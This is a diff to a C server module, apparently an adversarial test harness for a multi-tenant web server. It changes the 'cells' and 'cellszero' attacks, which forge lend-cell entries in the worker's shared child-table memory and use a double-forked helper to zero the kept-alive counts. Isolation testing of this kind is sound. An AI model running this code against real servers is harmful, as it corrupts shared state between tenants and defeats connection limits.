@@ -30,13 +30,14 @@
  *             the connection back to the multiplexers later).
  *   readkept  MSG_PEEK|MSG_DONTWAIT on the kept descriptor: what of the connection's later
  *             traffic (another vhost's requests) this worker can still see.
- *   ring      &seconds=N (default 4): this worker's ring of given-back lend numbers (its detail page,
- *             the highest writable page of the child table; ChildTable.swift's returnedOffset)
- *             holds lend numbers 1..256, "answered", rewritten every millisecond: as if it had
+ *   cells     &seconds=N (default 4): every lend cell of this worker's environment page (the
+ *             lowest writable page of the child table; ChildTable.swift's lendCellsOffset)
+ *             holds a lend number, "answered", rewritten every millisecond: cell i says the
+ *             connection lent as hand-off 1 + i with cell i came back, as if this worker had
  *             given back the first connections lent to any environment.
- *   ringzero  &seconds=N (default 10): a helper process writes 0 over the kept-alive count beside
- *             every entry of that ring, so each lent connection this worker answers reads as
- *             never kept alive before (MaxKeepAliveRequests).
+ *   cellszero &seconds=N (default 10): a helper process writes 0 over the kept-alive count
+ *             beside every lend cell of that page, so each lent connection this environment
+ *             answers reads as never kept alive before (MaxKeepAliveRequests).
  *   keepalives  with &fd= the hand-back channel: this client connection handed back with its
  *             true ticket, a request for b.test and a kept-alive count of &count=N (default
  *             2^32 - 1); writes nothing to the client (reported in the error log).
@@ -560,7 +561,7 @@ static void attack_table(request_rec *r)
 }
 
 /* ------------------------------------------------------------------ */
-/* ring                                                                 */
+/* lend cells                                                           */
 /* ------------------------------------------------------------------ */
 
 /* This worker's detail page: the highest writable page of its child-table mappings (0: none). */
@@ -578,59 +579,73 @@ static uintptr_t own_detail_page(void)
     return detail;
 }
 
-/* ChildTable.swift: a worker's detail page holds its ring of given-back lend numbers at 288,
- * 256 words, the kind in the top two bits (0 answered, 2 ended). */
-#define RING_OFFSET 288
-#define RING_ENTRIES 256
+/* This worker's environment page: the lowest writable page of its child-table mappings (0:
+ * none). The table's environment pages come before its worker and detail pages. */
+static uintptr_t own_environment_page(void)
+{
+    mapping maps[64];
+    int count = shared_state_mappings(maps, 64), i;
+    uintptr_t page = 0;
+    for (i = 0; i < count; i++) {
+        if (strchr(maps[i].perms, 'w') && strstr(maps[i].name, "peruser-child-table")
+            && (page == 0 || maps[i].start < page)) {
+            page = maps[i].start;
+        }
+    }
+    return page;
+}
 
-static void attack_ring(request_rec *r, int seconds)
+/* ChildTable.swift: an environment page holds its lend cells from 64 on, 16 bytes each: the
+ * lend number (the hand-off count below bit 48, the cell above, the kind in the top two bits:
+ * 0 answered, 2 ended) and beside it the UInt32 count of kept-alive answers. */
+#define CELLS_OFFSET 64
+#define CELL_SIZE 16
+#define CELL_COUNT ((4096 - CELLS_OFFSET) / CELL_SIZE)
+
+static void attack_cells(request_rec *r, int seconds)
 {
     int i;
-    uintptr_t detail = own_detail_page();
+    uintptr_t page = own_environment_page();
     long long until;
-    uint64_t number = 1, written = 0;
-    if (!detail) {
-        step(r, "find this worker's detail page (a writable page of the child table)", 0, ENOENT, NULL);
+    uint64_t written = 0;
+    if (!page) {
+        step(r, "find this worker's environment page (a writable page of the child table)", 0, ENOENT, NULL);
         return;
     }
     until = now_ms() + 1000LL * seconds;
     while (now_ms() < until) {
-        volatile uint64_t *ring = (volatile uint64_t *)(detail + RING_OFFSET);
-        for (i = 0; i < RING_ENTRIES; i++) {
-            ring[i] = number + (uint64_t)i;
+        for (i = 0; i < CELL_COUNT; i++) {
+            volatile uint64_t *cell = (volatile uint64_t *)(page + CELLS_OFFSET + CELL_SIZE * i);
+            *cell = (uint64_t)i << 48 | (uint64_t)(1 + i);
             written++;
         }
         sleep_ms(1);
     }
-    step(r, apr_psprintf(r->pool, "wrote lend numbers 1..256 (answered) into the ring at %lx, %lu words in %d s",
-                         (unsigned long)detail + RING_OFFSET, (unsigned long)written, seconds),
+    step(r, apr_psprintf(r->pool, "wrote lend numbers (answered) into the %d lend cells at %lx, %lu words in %d s",
+                         CELL_COUNT, (unsigned long)page + CELLS_OFFSET, (unsigned long)written, seconds),
          1, 0, NULL);
 }
 
-/* ChildTable.swift: beside the ring, one UInt32 per entry: the kept-alive answers of that
- * connection so far (returnedKeepalivesOffset = 288 + 8 * 256 + 8). */
-#define RING_KEEPALIVES_OFFSET (RING_OFFSET + 8 * RING_ENTRIES + 8)
-
 /* Leaves a helper process (this tenant's uid, this worker's mappings) that writes 0 over every
- * kept-alive count of this worker's ring for `seconds`: each lent connection this worker
- * answers then reads as never kept alive before. Double-forked, so nobody has to reap it. */
-static void attack_ringzero(request_rec *r, int seconds)
+ * kept-alive count beside this environment's lend cells for `seconds`: each lent connection
+ * this environment answers then reads as never kept alive before. Double-forked, so nobody
+ * has to reap it. */
+static void attack_cellszero(request_rec *r, int seconds)
 {
     int i, status;
-    uintptr_t detail = own_detail_page();
+    uintptr_t page = own_environment_page();
     pid_t child;
-    if (!detail) {
-        step(r, "find this worker's detail page (a writable page of the child table)", 0, ENOENT, NULL);
+    if (!page) {
+        step(r, "find this worker's environment page (a writable page of the child table)", 0, ENOENT, NULL);
         return;
     }
     child = fork();
     if (child == 0) {
         if (fork() == 0) {
             long long until = now_ms() + 1000LL * seconds;
-            volatile uint32_t *counts = (volatile uint32_t *)(detail + RING_KEEPALIVES_OFFSET);
             while (now_ms() < until) {
-                for (i = 0; i < RING_ENTRIES; i++) {
-                    counts[i] = 0;
+                for (i = 0; i < CELL_COUNT; i++) {
+                    *(volatile uint32_t *)(page + CELLS_OFFSET + CELL_SIZE * i + 8) = 0;
                 }
                 usleep(20);
             }
@@ -640,8 +655,8 @@ static void attack_ringzero(request_rec *r, int seconds)
     if (child > 0) {
         waitpid(child, &status, 0);
     }
-    step(r, apr_psprintf(r->pool, "left a helper writing 0 over the ring's kept-alive counts at %lx for %d s",
-                         (unsigned long)detail + RING_KEEPALIVES_OFFSET, seconds),
+    step(r, apr_psprintf(r->pool, "left a helper writing 0 over the lend cells' kept-alive counts at %lx for %d s",
+                         (unsigned long)page + CELLS_OFFSET, seconds),
          child > 0, child > 0 ? 0 : errno, NULL);
 }
 
@@ -1440,13 +1455,13 @@ static int attack_handler(request_rec *r)
     else if (strcmp(attack, "holdings") == 0) {
         attack_holdings(r);
     }
-    else if (strcmp(attack, "ring") == 0) {
+    else if (strcmp(attack, "cells") == 0) {
         const char *seconds = apr_table_get(args, "seconds");
-        attack_ring(r, seconds ? atoi(seconds) : 4);
+        attack_cells(r, seconds ? atoi(seconds) : 4);
     }
-    else if (strcmp(attack, "ringzero") == 0) {
+    else if (strcmp(attack, "cellszero") == 0) {
         const char *seconds = apr_table_get(args, "seconds");
-        attack_ringzero(r, seconds ? atoi(seconds) : 10);
+        attack_cellszero(r, seconds ? atoi(seconds) : 10);
     }
     else if (strcmp(attack, "signal") == 0) {
         attack_signal(r);
